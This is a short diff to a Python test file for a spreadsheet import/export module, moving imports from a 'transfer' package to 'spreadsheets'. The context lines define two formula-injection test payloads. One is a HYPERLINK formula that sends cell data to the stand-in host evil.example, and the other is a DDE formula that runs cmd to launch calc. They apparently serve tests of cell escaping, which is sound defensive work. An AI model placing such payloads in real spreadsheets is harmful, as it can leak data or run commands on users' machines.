@@ -9,9 +9,9 @@ import openpyxl
 import pytest
 
 from hardtech.catalogue.models import Achievement, Organisation
-from hardtech.transfer.cells import FORMULA_START, csv_cell, unquote
-from hardtech.transfer.exporter import export_file
-from hardtech.transfer.importer import import_file
+from hardtech.spreadsheets.cells import FORMULA_START, csv_cell, unquote
+from hardtech.spreadsheets.exporter import export_file
+from hardtech.spreadsheets.importer import import_file
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
 DDE = "=cmd|' /C calc'!A0"
